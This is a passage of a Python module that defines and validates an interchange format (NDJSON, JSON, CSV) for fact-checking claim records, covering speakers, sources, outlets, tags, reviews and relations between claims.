"""The interchange format of claims: reading, checking and writing records, with no database.

One **record** is one claim with everything it carries. Related records are named by natural keys
and described in place, so a record stands on its own:

- an actor (``speaker``, a review's ``reviewer``) by its ``name`` and ``kind``, or by its
  ``wikidata_id``; also ``aliases``, ``description``;
- an outlet by its ``name``; also ``kind``, ``url``, ``description``;
- a source by its ``url``, or, when it has none, by its ``title`` and ``published_on`` together;
  also ``language``, ``authors``, ``outlet`` (an outlet as above) and its full ``text``;
- a tag by its ``slug``; also ``name``, ``description``.

An example (one line of an NDJSON file; spread out here)::

    {"uid": "0d5f4a1e-2b8c-4e7a-9f61-3c2d1b0a9e87",
     "text": "I think the question is, did Tokayev not trust the army?", "kind": "direct_quote",
     "speaker": {"name": "Jennifer Brick Murtazashvili", "kind": "person", "aliases": ["Murtazashvili"],
                 "description": "...", "wikidata_id": ""},
     "speaker_role": "Central and South Asia expert at the University of Pittsburgh",
     "stated_on": null, "stated_on_precision": "", "outlet": null,
     "source": {"url": "", "title": "", "published_on": "2022-01-08", "language": "en", "authors": [],
                "outlet": null, "text": "..."},
     "span": {"start": 4012, "end": 4068, "exact": "I think the question is, did Tokayev not trust the army?"},
     "status": "unverified", "status_note": "",
     "tags": [{"slug": "kazakhstan-unrest-2022", "name": "Kazakhstan unrest, January 2022", "description": "..."}],
     "reviews": [],
     "relations": [{"type": "responded_to_by", "claim": "6a1c2e4f-0b3d-4e5f-8a7b-9c0d1e2f3a4b"}]}

What a key *absent* from a related record means differs from an empty value: absent is "not said
here" (the record in the database keeps what it has), empty is "empty". So a source's long ``text``
need only be given once in a file (exports give it with the first claim of each source), and a
hand-written file may describe an actor once and name it by key elsewhere. Two records of one file
that say different things of the same related record are refused.

On a claim, an absent ``status`` leaves the status as it is (a new claim is unverified); absent
``tags`` or ``reviews`` leave those as they are; the claim's other fields take their defaults.

A claim's ``relations`` to other claims name each other claim by its ``uid`` (in the file or already in
the database), with the type as this claim sees it, as the API's ``relations`` give it: a directed type
seen from the claim it points at reads as its inverse (``responded_to_by``: the other claim responds to
this one). An export lists a relation with both its claims; an import creates the relations a record
lists that the database does not have yet (listed twice, from both sides, it is made once) and removes
none. In CSV, the ``relations`` column lists ``type:uid`` pairs, joined with ``|``.

Import-only conveniences, never written by an export: ``stated`` (the date as the source words it,
"Friday", "in March 2019", resolved against the source's publication date), ``passage`` (for a
paraphrase, the passage of the source that reports it, instead of ``span``), a source's
``text_file`` (its text read from a file beside the imported one), and ``note`` (a comment for the
file's readers, not imported).

Two spellings of the names (``SPELLINGS``): version 1's, above, and version 2's, the API's naming
rule (a source's ``document_url`` and an outlet's ``website`` where version 1 says ``url``; CSV columns
named by their path, ``speaker.name``): ``respelled`` and ``csv_columns`` write it, and a file in
either (or both: the same value under both names) is read. A claim's ``id`` and ``url`` (in the API
it came from) are read and ignored.

Three containers: NDJSON (one record a line), JSON (an array of records, or an object with
``"claims"`` and an optional ``"about"``) and CSV (one row a claim, see ``CSV_COLUMNS``: the claim and
the keys of its related records, lists joined with ``|``; no reviews, no source text).

The curation history of a claim (who verified it, when) is not carried: it belongs to the database
the claim is in. ``claim_review_jsonld`` gives a review as schema.org ClaimReview (JSON-LD).
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date
from typing import Any

import orjson

from factbase.models import Actor, Claim, Outlet, Review, Source, Tag
from factbase.models.limits import (
    CLAIM_TEXT_MAX_LENGTH,
    NAME_MAX_LENGTH,
    NAMES_MAX_COUNT,
    NOTE_MAX_LENGTH,
    PASSAGE_MAX_LENGTH,
    SOURCE_TEXT_MAX_LENGTH,
    SUMMARY_MAX_LENGTH,
)

# The vocabularies (kept in step with the models by tests/factbase/test_interchange.py).
CLAIM_KINDS = ("direct_quote", "paraphrase")
PRECISIONS = ("day", "month", "year")
STATUSES = ("unverified", "verified", "disputed", "rejected")
ACTOR_KINDS = ("person", "organization")
OUTLET_KINDS = ("newspaper", "magazine", "broadcaster", "news_agency", "website", "social_network",
                "press_conference", "event", "other")
RATINGS = ("false", "mostly_false", "mixed", "mostly_true", "true", "unsupported", "misleading")
RELATION_TYPES = ("same_statement", "contradicts", "responds_to", "corrects", "repeats")
#: a directed relation type as the claim it points at sees it (factbase.models.relation.INVERSE)
RELATION_INVERSES = {"responds_to": "responded_to_by", "corrects": "corrected_by", "repeats": "repeated_by"}
RELATION_SHOWN_TYPES = (*RELATION_TYPES, *RELATION_INVERSES.values())
RELATIONS_MAX_COUNT = 1000  # relations one record may list

FORMATS = ("ndjson", "json", "csv")
MEDIA_TYPES = {"ndjson": "application/x-ndjson", "json": "application/json", "csv": "text/csv"}
EXTENSIONS = {".ndjson": "ndjson", ".jsonl": "ndjson", ".json": "json", ".csv": "csv"}

# Keys in the order an export writes them.
CLAIM_KEYS = ("uid", "text", "kind", "speaker", "speaker_role", "stated_on", "stated_on_precision", "outlet",
              "source", "span", "status", "status_note", "tags", "reviews", "relations")
CLAIM_IMPORT_KEYS = ("stated", "passage", "note", "id", "url")
ACTOR_KEYS = ("name", "kind", "aliases", "description", "wikidata_id")
OUTLET_KEYS = ("name", "kind", "url", "description")
SOURCE_KEYS = ("url", "title", "published_on", "language", "authors", "outlet", "text")
SOURCE_IMPORT_KEYS = ("text_file",)
TAG_KEYS = ("slug", "name", "description")
REVIEW_KEYS = ("rating", "rating_text", "summary", "reviewed_on", "reviewer", "source")
SPAN_KEYS = ("start", "end", "exact")
RELATION_KEYS = ("type", "claim")

OUTLET_V2_KEYS = ("website",)  # the version-2 names of OUTLET_KEYS ("url"), read on import
SOURCE_EXTRA_KEYS = (*SOURCE_IMPORT_KEYS, "document_url")  # and of SOURCE_KEYS ("url")

CSV_COLUMNS = (
    "uid", "text", "kind",
    "speaker", "speaker_kind", "speaker_aliases", "speaker_description", "speaker_wikidata_id",
    "speaker_role", "stated_on", "stated_on_precision",
    "outlet", "outlet_kind",
    "source_url", "source_title", "source_published_on", "source_language", "source_authors", "source_outlet",
    "span_start", "span_end", "span_exact",
    "status", "status_note", "tags", "relations",
)
CSV_REQUIRED = ("text", "speaker", "speaker_kind")
LIST_SEPARATOR = "|"

# --- the two spellings of the format ---------------------------------------------------------------
#
# Version 1 (above; what ``export_claims`` and /api/v1/ write) names a source's address and an outlet's
# website ``url``, and a CSV column of a related record's field ``<record>_<field>`` (``speaker`` for its
# name). Version 2 (what /api/v2/ writes) follows the API's naming rule (README, "Naming"): ``url`` is
# only ever a record's own address in the API, so the source's is ``document_url`` and the outlet's
# ``website``, as in the API's JSON; a CSV column is the field's path in the record, joined by dots
# (``speaker.name``, ``source.document_url``), as in the CSV of every other list. The importer reads
# both, and refuses a record that gives both names of one field with different values.
SPELLINGS = ("v1", "v2")
#: a field's version-2 name, by (record, version-1 name)
V2_KEYS = {"outlet": {"url": "website"}, "source": {"url": "document_url"}}
#: each CSV column's version-2 name: the field's path in the record
CSV_COLUMNS_V2_BY_V1 = {
    "speaker": "speaker.name", "speaker_kind": "speaker.kind", "speaker_aliases": "speaker.aliases",
    "speaker_description": "speaker.description", "speaker_wikidata_id": "speaker.wikidata_id",
    "outlet": "outlet.name", "outlet_kind": "outlet.kind",
    "source_url": "source.document_url", "source_title": "source.title", "source_published_on": "source.published_on",
    "source_language": "source.language", "source_authors": "source.authors", "source_outlet": "source.outlet.name",
    "span_start": "span.start", "span_end": "span.end", "span_exact": "span.exact",
}
CSV_COLUMNS_V2 = tuple(CSV_COLUMNS_V2_BY_V1.get(name, name) for name in CSV_COLUMNS)
#: columns a CSV may have that an import ignores: the claim's id and URL in the database it came from
#: (the CSV of ``GET /api/.../claims/?format=csv`` gives them); a claim is known across databases by its uid
CSV_IGNORED_COLUMNS = ("id", "url")
#: a column's version-1 name, by its name in either version
CSV_COLUMNS_V1_BY_NAME = {**{name: name for name in CSV_COLUMNS},
                          **{new: old for old, new in CSV_COLUMNS_V2_BY_V1.items()}}
CSV_KNOWN_COLUMNS = frozenset((*CSV_COLUMNS_V1_BY_NAME, *CSV_IGNORED_COLUMNS))

WIKIDATA_ID = re.compile(r"Q[1-9][0-9]*\Z")
SLUG = re.compile(r"[-a-zA-Z0-9_]+\Z")
ASCII_DIGITS = re.compile(r"[0-9]+")
ISO_DATE = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")  # [0-9], not \d: "２０２２" is no year here
YEAR_OR_MONTH = re.compile(r"([0-9]{4})(?:-([0-9]{2}))?")


def _max_length(model, name: str) -> int:
    return model._meta.get_field(name).max_length


# The longest text each field takes: the limits of factbase.models.limits, and the models' own
# max_length, so that a record is refused here, with its line, rather than by the database.
MAX_LENGTHS = {
    "claim.text": CLAIM_TEXT_MAX_LENGTH,
    "claim.passage": PASSAGE_MAX_LENGTH,
    "claim.span.exact": SOURCE_TEXT_MAX_LENGTH,  # a slice of the text (a quote's may be longer than the quote)
    "claim.status_note": NOTE_MAX_LENGTH,
    "claim.speaker_role": _max_length(Claim, "speaker_role"),
    "claim.stated": 200,  # a date as a source words it: "last Friday", "in March 2019"
    "actor.name": NAME_MAX_LENGTH,
    "actor.description": _max_length(Actor, "description"),
    "actor.wikidata_id": _max_length(Actor, "wikidata_id"),
    "name": NAME_MAX_LENGTH,  # an alias, an author
    "outlet.name": _max_length(Outlet, "name"),
    "outlet.url": _max_length(Outlet, "url"),
    "outlet.description": _max_length(Outlet, "description"),
    "source.url": _max_length(Source, "url"),
    "source.title": _max_length(Source, "title"),
    "source.language": _max_length(Source, "language"),
    "source.text": SOURCE_TEXT_MAX_LENGTH,
    "source.text_file": 1000,  # a file's name
    "tag.slug": _max_length(Tag, "slug"),
    "tag.name": _max_length(Tag, "name"),
    "tag.description": _max_length(Tag, "description"),
    "review.rating_text": _max_length(Review, "rating_text"),
    "review.summary": SUMMARY_MAX_LENGTH,
}


# --- problems ------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Problem:
    """Why a record was refused: where (file and line), which field (a path such as
    ``speaker.name`` or ``reviews[0].rating``; empty for the record as a whole), and what is wrong."""

    line: int
    field: str
    message: str
    file: str = ""

    def __str__(self):
        where = f"{self.file}:{self.line}" if self.file else f"line {self.line}"
        return f"{where}: {self.field}: {self.message}" if self.field else f"{where}: {self.message}"


class RecordError(Exception):
    """A record that cannot be read: ``problems`` lists (field, message) pairs."""

    def __init__(self, problems: list[tuple[str, str]]):
        super().__init__("; ".join(f"{f}: {m}" if f else m for f, m in problems))
        self.problems = problems


# --- parsed records ------------------------------------------------------------------------------

@dataclass
class ActorRef:
    name: str | None
    kind: str | None
    stated: dict[str, Any]  # the fields the record gives (name, kind, aliases, description, wikidata_id)


@dataclass
class OutletRef:
    name: str
    stated: dict[str, Any]


@dataclass
class SourceRef:
    url: str
    title: str
    published_on: date | None
    stated: dict[str, Any]  # its fields as given; "outlet" as an OutletRef or None

    @property
    def key(self) -> tuple:
        """A source with a URL is known by it; one without, by its title and publication date."""
        return ("url", self.url) if self.url else ("title", self.title, self.published_on)

    def describe(self) -> str:
        if self.url:
            return self.url
        title = f"“{self.title}”" if self.title else "untitled"
        return f"{title} of {self.published_on.isoformat()}" if self.published_on else title


@dataclass
class TagRef:
    slug: str
    stated: dict[str, Any]


@dataclass
class ReviewRecord:
    rating: str
    rating_text: str
    summary: str
    reviewed_on: date | None
    reviewer: ActorRef | None
    source: SourceRef | None


@dataclass
class ClaimRecord:
    text: str
    kind: str
    speaker: ActorRef
    source: SourceRef
    uid: uuid.UUID | None = None
    speaker_role: str = ""
    stated_on: date | None = None
    stated_on_precision: str = ""
    stated: str | None = None  # a date expression, resolved against the source's date by the importer
    outlet: OutletRef | None = None
    passage: str = ""  # a paraphrase's passage in the source ("" for a direct quote)
    span_hint: int | None = None  # where the span was: picks among repeated phrases
    status: str | None = None  # None: not stated
    status_note: str | None = None
    tags: list[TagRef] | None = None
    reviews: list[ReviewRecord] | None = None
    relations: list[tuple[str, uuid.UUID]] | None = None  # (type as this claim sees it, the other claim's uid)
    line: int = 0
    related_problems: list[tuple[str, str]] = field(default_factory=list)


# --- checking values -----------------------------------------------------------------------------

class _Problems:
    def __init__(self, cache: dict | None = None):
        self.items: list[tuple[str, str]] = []
        self.cache = cache  # see _parsed

    def add(self, path: str, message: str) -> None:
        self.items.append((path, message))


def _join(path: str, name: str) -> str:
    return f"{path}.{name}" if path else name


def _choices(values: Iterable[str]) -> str:
    return ", ".join(values)


def _shown(text: str, limit: int = 60) -> str:
    """A text of a record as a message shows it: at most ``limit`` characters, and those that a
    terminal would not show as themselves (NUL, other controls, lone surrogates, ...) escaped."""
    text = text[:limit]
    if text.isprintable():
        return text
    return "".join(char if char.isprintable() else ascii(char)[1:-1] for char in text)


_KNOWN: dict[tuple[int, int], frozenset] = {}  # by the ids of the (module-level) tuples of keys


def _object(value, path, problems, keys, *, extra=()) -> dict | None:
    if not isinstance(value, dict):
        problems.add(path, f"Give an object, not {_type_name(value)}.")
        return None
    known = _KNOWN.get((id(keys), id(extra)))
    if known is None:
        known = _KNOWN[(id(keys), id(extra))] = frozenset((*keys, *extra))
    if not known.issuperset(value):
        for key in value:
            if key not in known:
                problems.add(_join(path, _shown(str(key))),
                             f"Unknown field. The fields are: {_choices((*keys, *extra))}.")
    return value


def _type_name(value) -> str:
    if value is None:
        return "null"
    return {bool: "true or false", int: "a number", float: "a number", str: "a text", list: "a list",
            dict: "an object"}.get(type(value), type(value).__name__)


def _text(obj, key, path, problems, *, required=False, default: str | None = "", max_length=None) -> str | None:
    value = obj.get(key)
    if value.__class__ is str and "\x00" not in value and (max_length is None or len(value) <= max_length) \
            and (not required or value.strip()):
        return value  # the usual case, checked as below
    if key not in obj or obj[key] is None:
        if required:
            problems.add(_join(path, key), "This field is required.")
        return default
    value = obj[key]
    if not isinstance(value, str):
        problems.add(_join(path, key), f"Give a text, not {_type_name(value)}.")
        return default
    if "\x00" in value:
        problems.add(_join(path, key), "A text may not contain the NUL character.")
        return default
    if required and not value.strip():
        problems.add(_join(path, key), "This field may not be empty.")
        return default
    if max_length is not None and len(value) > max_length:
        problems.add(_join(path, key), f"At most {max_length} characters (this has {len(value)}).")
        return default
    return value


def _choice(obj, key, path, problems, values, *, default=None, required=False) -> str | None:
    if key not in obj or obj[key] is None:
        if required:
            problems.add(_join(path, key), f"This field is required: one of {_choices(values)}.")
        return default
    value = obj[key]
    if value not in values:
        shown = _shown(value) if isinstance(value, str) else _type_name(value)
        problems.add(_join(path, key), f"“{shown}” is not one of: {_choices(values)}.")
        return default
    return value


def parse_date(value: str) -> date:
    """An ISO date (YYYY-MM-DD); ValueError with a reason otherwise (``2022-02-30``: no such day)."""
    if not isinstance(value, str) or not ISO_DATE.fullmatch(value):
        raise ValueError("Give a date as YYYY-MM-DD.")
    try:
        return date.fromisoformat(value)
    except ValueError:
        raise ValueError(f"There is no such day: {value}.") from None


def _date(obj, key, path, problems) -> date | None:
    value = obj.get(key)
    if value is None or value == "":
        return None
    try:
        return parse_date(value)
    except ValueError as exc:
        problems.add(_join(path, key), str(exc))
        return None


def _names(obj, key, path, problems) -> list[str] | None:
    """A list of names (aliases, authors): at most ``NAMES_MAX_COUNT``, each a text of at most
    ``NAME_MAX_LENGTH`` characters."""
    value = obj[key]
    path = _join(path, key)
    if not isinstance(value, list):
        problems.add(path, f"Give a list of texts, not {_type_name(value)}.")
        return None
    if len(value) > NAMES_MAX_COUNT:
        problems.add(path, f"At most {NAMES_MAX_COUNT} names (this has {len(value)}).")
        return None
    limit, before = MAX_LENGTHS["name"], len(problems.items)
    for i, item in enumerate(value):
        if item.__class__ is str and len(item) <= limit and "\x00" not in item:
            continue
        if not isinstance(item, str):
            problems.add(f"{path}[{i}]", f"Give a text, not {_type_name(item)}.")
        elif "\x00" in item:
            problems.add(f"{path}[{i}]", "A text may not contain the NUL character.")
        else:
            problems.add(f"{path}[{i}]", f"At most {limit} characters (this has {len(item)}).")
    return value if len(problems.items) == before else None


# --- records -------------------------------------------------------------------------------------

CACHED_OBJECTS = 50_000  # at most so many objects kept by a cache (see _parsed)
CACHED_TEXT_LENGTH = 1000  # an object with a longer text (a source's) is not kept


def _frozen(value: dict, nested: bool = False) -> tuple:
    """A hashable copy of an object read from JSON (TypeError when it holds an unhashable value, a
    text too long to keep, or objects in objects in it: a source's outlet is as deep as a related
    record goes; deeper is not valid, and is parsed to say so)."""
    items = tuple(value.items())
    for _, item in items:
        if item.__class__ is str and len(item) > CACHED_TEXT_LENGTH:
            raise TypeError("not kept")
    try:
        hash(items)
    except TypeError:  # lists (aliases, authors) and objects (a source's outlet) in it
        if nested:
            raise
        return tuple((name, _frozen(item, nested=True) if item.__class__ is dict else
                      tuple(item) if item.__class__ is list else item) for name, item in items)
    return items


def _parsed(parse, value, path, problems):
    """``parse(value, path, problems)``, or the result of parsing an equal object before (with the
    ``cache`` given to ``parse_claim``): the records of a file describe the same speakers, outlets and
    tags again and again. Only what was read without a problem is kept; the results are not changed
    by their readers."""
    cache = problems.cache
    if cache is None or value.__class__ is not dict:
        return parse(value, path, problems)
    try:
        key = (parse, _frozen(value))
        found = cache.get(key)
    except TypeError:  # an unhashable value (an object where a text belongs): parse it to say so
        return parse(value, path, problems)
    if found is not None:
        return found
    before = len(problems.items)
    result = parse(value, path, problems)
    if result is not None and len(problems.items) == before and len(cache) < CACHED_OBJECTS:
        cache[key] = result
    return result


def parse_actor(value, path, problems) -> ActorRef | None:
    obj = _object(value, path, problems, ACTOR_KEYS)
    if obj is None:
        return None
    stated = {}
    name = _text(obj, "name", path, problems, default=None, max_length=MAX_LENGTHS["actor.name"])
    kind = _choice(obj, "kind", path, problems, ACTOR_KINDS)
    wikidata_id = _text(obj, "wikidata_id", path, problems, default=None,
                        max_length=MAX_LENGTHS["actor.wikidata_id"])
    if wikidata_id and not WIKIDATA_ID.match(wikidata_id):
        problems.add(_join(path, "wikidata_id"), "A Wikidata id is Q followed by digits, e.g. Q123.")
        wikidata_id = None
    if name is not None and not name.strip():
        problems.add(_join(path, "name"), "This field may not be empty.")
        name = None
    if not wikidata_id and (name is None or kind is None):
        problems.add(path, "Name the actor by its name and kind (person or organization), or by its wikidata_id.")
        return None
    for key, val in (("name", name), ("kind", kind)):
        if val is not None:
            stated[key] = val
    if "wikidata_id" in obj:
        stated["wikidata_id"] = wikidata_id or ""
    if "aliases" in obj:
        aliases = _names(obj, "aliases", path, problems)
        if aliases is not None:
            stated["aliases"] = aliases
    if "description" in obj:
        stated["description"] = _text(obj, "description", path, problems, max_length=MAX_LENGTHS["actor.description"])
    return ActorRef(name=name, kind=kind, stated=stated)


def _respelled(obj: dict, record: str, path: str, problems) -> dict:
    """``obj`` with its version-2 keys (``V2_KEYS``) under their version-1 names; both names of one field
    with different values are a problem (the same value twice is fine)."""
    renames = V2_KEYS[record]
    if not any(new in obj for new in renames.values()):
        return obj
    obj = dict(obj)
    for old, new in renames.items():
        if new not in obj:
            continue
        value = obj.pop(new)
        if old in obj and obj[old] != value:
            problems.add(_join(path, new), f"Give {new} or {old} (its name in version 1 of the format), not both "
                                           f"with different values.")
        obj[old] = value
    return obj


def parse_outlet(value, path, problems) -> OutletRef | None:
    obj = _object(value, path, problems, OUTLET_KEYS, extra=OUTLET_V2_KEYS)
    if obj is None:
        return None
    obj = _respelled(obj, "outlet", path, problems)
    name = _text(obj, "name", path, problems, required=True, default=None, max_length=MAX_LENGTHS["outlet.name"])
    if name is None:
        return None
    stated = {"name": name}
    if "kind" in obj:
        stated["kind"] = _choice(obj, "kind", path, problems, OUTLET_KINDS, default="other")
    for key in ("url", "description"):
        if key in obj:
            stated[key] = _text(obj, key, path, problems, max_length=MAX_LENGTHS[f"outlet.{key}"])
    return OutletRef(name=name, stated=stated)


def parse_source(value, path, problems) -> SourceRef | None:
    obj = _object(value, path, problems, SOURCE_KEYS, extra=SOURCE_EXTRA_KEYS)
    if obj is None:
        return None
    obj = _respelled(obj, "source", path, problems)
    stated: dict[str, Any] = {}
    url = _text(obj, "url", path, problems, max_length=MAX_LENGTHS["source.url"]) or ""
    title = _text(obj, "title", path, problems, max_length=MAX_LENGTHS["source.title"]) or ""
    published_on = _date(obj, "published_on", path, problems)
    if not url and not title and published_on is None:
        problems.add(path, "Name the source by its url, or by its title and/or published_on.")
        return None
    for key, val in (("url", url), ("title", title), ("published_on", published_on)):
        if key in obj:
            stated[key] = val
    if "language" in obj:
        stated["language"] = _text(obj, "language", path, problems, max_length=MAX_LENGTHS["source.language"])
    if "authors" in obj:
        authors = _names(obj, "authors", path, problems)
        if authors is not None:
            stated["authors"] = authors
    if "outlet" in obj:
        stated["outlet"] = None if obj["outlet"] is None else _parsed(parse_outlet, obj["outlet"],
                                                                     _join(path, "outlet"), problems)
    if "text" in obj and "text_file" in obj:
        problems.add(_join(path, "text_file"), "Give the text or a text_file, not both.")
    elif "text" in obj:
        stated["text"] = _text(obj, "text", path, problems, max_length=MAX_LENGTHS["source.text"])
    elif "text_file" in obj:
        stated["text_file"] = _text(obj, "text_file", path, problems, required=True,
                                    max_length=MAX_LENGTHS["source.text_file"])
    return SourceRef(url=url, title=title, published_on=published_on, stated=stated)


def parse_tag(value, path, problems) -> TagRef | None:
    if isinstance(value, str):
        value = {"slug": value}
    obj = _object(value, path, problems, TAG_KEYS)
    if obj is None:
        return None
    slug = _text(obj, "slug", path, problems, required=True, default=None, max_length=MAX_LENGTHS["tag.slug"])
    if slug is None:
        return None
    if not SLUG.match(slug):
        problems.add(_join(path, "slug"), "A slug is letters, digits, hyphens and underscores.")
        return None
    stated = {"slug": slug}
    if "name" in obj:
        stated["name"] = _text(obj, "name", path, problems, required=True, max_length=MAX_LENGTHS["tag.name"])
    if "description" in obj:
        stated["description"] = _text(obj, "description", path, problems, max_length=MAX_LENGTHS["tag.description"])
    return TagRef(slug=slug, stated=stated)


def parse_review(value, path, problems) -> ReviewRecord | None:
    obj = _object(value, path, problems, REVIEW_KEYS)
    if obj is None:
        return None
    rating = _choice(obj, "rating", path, problems, RATINGS, required=True)
    reviewer = None if obj.get("reviewer") is None else _parsed(parse_actor, obj["reviewer"], _join(path, "reviewer"),
                                                                problems)
    source = None if obj.get("source") is None else _parsed(parse_source, obj["source"], _join(path, "source"),
                                                            problems)
    if obj.get("reviewer") is None and obj.get("source") is None:
        problems.add(path, "A review names its reviewer or the source where it was published (or both).")
    review = ReviewRecord(
        rating=rating,
        rating_text=_text(obj, "rating_text", path, problems, max_length=MAX_LENGTHS["review.rating_text"]),
        summary=_text(obj, "summary", path, problems, max_length=MAX_LENGTHS["review.summary"]),
        reviewed_on=_date(obj, "reviewed_on", path, problems),
        reviewer=reviewer, source=source,
    )
    return review if rating is not None else None


def _stated_on(obj, problems) -> tuple[date | None, str]:
    """``stated_on`` and ``stated_on_precision``. Without a precision, "2022", "2022-03" and
    "2022-03-15" say year, month and day."""
    value = obj.get("stated_on")
    precision = _choice(obj, "stated_on_precision", "", problems, ("", *PRECISIONS), default="")
    if value is None or value == "":
        if precision:
            problems.add("stated_on", "Give the date, or leave the precision empty.")
        return None, ""
    if not isinstance(value, str):
        problems.add("stated_on", f"Give a date as YYYY-MM-DD, not {_type_name(value)}.")
        return None, ""
    shorthand = YEAR_OR_MONTH.fullmatch(value)
    if shorthand:
        implied = "month" if shorthand[2] else "year"
        if precision and precision != implied:
            problems.add("stated_on", f"{value} is a {implied}: give the first day (YYYY-MM-DD) with precision "
                                      f"{precision}, or precision {implied}.")
            return None, ""
        try:
            return date(int(shorthand[1]), int(shorthand[2] or 1), 1), implied
        except ValueError:
            problems.add("stated_on", f"There is no such month: {value}.")
            return None, ""
    try:
        parsed = parse_date(value)
    except ValueError as exc:
        problems.add("stated_on", str(exc))
        return None, ""
    return parsed, precision or "day"


def _span(obj, problems) -> tuple[int | None, str | None]:
    """The span's start (a hint) and its exact text; ``end`` must agree with them."""
    value = obj.get("span")
    if value is None:
        return None, None
    span = _object(value, "span", problems, SPAN_KEYS)
    if span is None:
        return None, None
    start, end, exact = span.get("start"), span.get("end"), span.get("exact")
    ok = True
    for key, val in (("start", start), ("end", end)):
        if isinstance(val, bool) or not isinstance(val, int) or not 0 <= val <= SOURCE_TEXT_MAX_LENGTH:
            problems.add(f"span.{key}", f"Give an offset into the source's text: a whole number from 0 to "
                                        f"{SOURCE_TEXT_MAX_LENGTH}.")
            ok = False
    if not isinstance(exact, str) or not exact:
        problems.add("span.exact", "Give the text of the source between start and end.")
        ok = False
    elif _text(span, "exact", "span", problems, max_length=MAX_LENGTHS["claim.span.exact"]) is not exact:
        ok = False
    if ok and end - start != len(exact):
        problems.add("span", f"end - start ({end - start}) is not the length of exact ({len(exact)}).")
        ok = False
    return (start, exact) if ok else (None, None)


def parse_claim(value, cache: dict | None = None) -> ClaimRecord:
    """A record as read from a file (a dict) checked and typed; ``RecordError`` lists every problem.

    ``cache``: a dict kept from one record of a file to the next, in which the speakers, outlets and
    tags read are kept to be found again (the same object, read once, for the same description)."""
    problems = _Problems(cache)
    obj = _object(value, "", problems, CLAIM_KEYS, extra=CLAIM_IMPORT_KEYS)
    if obj is None:
        raise RecordError(problems.items)

    uid = None
    if obj.get("uid") not in (None, ""):
        try:
            uid = uuid.UUID(str(obj["uid"])) if isinstance(obj["uid"], str) else None
        except ValueError:
            uid = None
        if uid is None:
            problems.add("uid", "Give a UUID, e.g. 0d5f4a1e-2b8c-4e7a-9f61-3c2d1b0a9e87.")

    text = _text(obj, "text", "", problems, required=True, max_length=MAX_LENGTHS["claim.text"])
    kind = _choice(obj, "kind", "", problems, CLAIM_KINDS, default="direct_quote")
    if obj.get("speaker") is None:
        problems.add("speaker", "A claim needs its speaker: an actor named by name and kind, or wikidata_id.")
        speaker = None
    else:
        speaker = _parsed(parse_actor, obj["speaker"], "speaker", problems)
    if obj.get("source") is None:
        problems.add("source", "A claim needs its source: the document that reports it.")
        source = None
    else:
        source = _parsed(parse_source, obj["source"], "source", problems)
    outlet = None if obj.get("outlet") is None else _parsed(parse_outlet, obj["outlet"], "outlet", problems)

    stated_on, precision = _stated_on(obj, problems)
    stated = None
    if obj.get("stated") is not None:
        stated = _text(obj, "stated", "", problems, default=None, max_length=MAX_LENGTHS["claim.stated"])
        if obj.get("stated_on") not in (None, ""):
            problems.add("stated", "Give stated (the date as the source words it) or stated_on, not both.")

    span_hint, span_exact = _span(obj, problems)
    passage = ""
    if obj.get("passage") not in (None, ""):
        passage = _text(obj, "passage", "", problems, max_length=MAX_LENGTHS["claim.passage"])
        if obj.get("span") is not None:
            problems.add("passage", "Give the passage or the span, not both.")
    elif span_exact is not None:
        passage = span_exact
    if kind == "direct_quote" and obj.get("passage") not in (None, ""):
        problems.add("passage", "A direct quote is looked for in the source by its text: leave passage out.")
    if kind == "direct_quote":
        passage = ""

    status = _choice(obj, "status", "", problems, STATUSES) if "status" in obj else None
    status_note = _text(obj, "status_note", "", problems, max_length=MAX_LENGTHS["claim.status_note"]) \
        if "status_note" in obj else None

    tags = None
    if "tags" in obj:
        if not isinstance(obj["tags"], list):
            problems.add("tags", "Give a list of tags (objects with a slug, or slugs).")
        else:
            tags = [_parsed(parse_tag, tag, f"tags[{i}]", problems) for i, tag in enumerate(obj["tags"])]
            tags = [tag for tag in tags if tag is not None]
            slugs = [tag.slug for tag in tags]
            if len(set(slugs)) != len(slugs):
                problems.add("tags", "A tag is listed twice.")
    reviews = None
    if "reviews" in obj:
        if not isinstance(obj["reviews"], list):
            problems.add("reviews", "Give a list of reviews.")
        else:
            reviews = [parse_review(review, f"reviews[{i}]", problems) for i, review in enumerate(obj["reviews"])]
            reviews = [review for review in reviews if review is not None]

    relations = None
    if "relations" in obj:
        relations = _relations(obj["relations"], problems)

    speaker_role = _text(obj, "speaker_role", "", problems, max_length=MAX_LENGTHS["claim.speaker_role"])
    if problems.items:
        raise RecordError(problems.items)
    return ClaimRecord(
        uid=uid, text=text, kind=kind, speaker=speaker, source=source, speaker_role=speaker_role,
        stated_on=stated_on, stated_on_precision=precision, stated=stated, outlet=outlet, passage=passage,
        span_hint=span_hint, status=status, status_note=status_note, tags=tags, reviews=reviews, relations=relations,
    )


def _relations(value, problems) -> list[tuple[str, uuid.UUID]] | None:
    """A record's ``relations``: a list of ``{"type", "claim": uid}``."""
    if not isinstance(value, list):
        problems.add("relations", "Give a list of relations: objects with a type and a claim (its uid).")
        return None
    if len(value) > RELATIONS_MAX_COUNT:
        problems.add("relations", f"List at most {RELATIONS_MAX_COUNT} relations (this lists {len(value)}).")
        return None
    relations = []
    for i, item in enumerate(value):
        path = f"relations[{i}]"
        obj = _object(item, path, problems, RELATION_KEYS)
        if obj is None:
            continue
        relation_type = _choice(obj, "type", path, problems, RELATION_SHOWN_TYPES, required=True)
        other = None
        if isinstance(obj.get("claim"), str):
            try:
                other = uuid.UUID(obj["claim"])
            except ValueError:
                other = None
        if other is None:
            problems.add(_join(path, "claim"), "Give the related claim's uid, e.g. 0d5f4a1e-2b8c-4e7a-9f61-3c2d1b0a9e87.")
        if relation_type is not None and other is not None:
            relations.append((relation_type, other))
    return relations


# --- reading files -------------------------------------------------------------------------------

def format_for(path: str, given: str | None = None) -> str:
    """The format named by ``given``, else by the file's extension; ValueError when neither says."""
    if given:
        if given not in FORMATS:
            raise ValueError(f"Unknown format {given!r}: choose one of {', '.join(FORMATS)}.")
        return given
    lowered = str(path).lower()
    for extension, fmt in EXTENSIONS.items():
        if lowered.endswith(extension):
            return fmt
    raise ValueError(f"Cannot tell the format of {path} from its extension ({', '.join(EXTENSIONS)}): "
                     f"give --format.")


# How large a record can be. Its largest part is a source's text, at most SOURCE_TEXT_MAX_LENGTH
# characters; in JSON a character takes at most 12 bytes (one outside the Basic Multilingual Plane
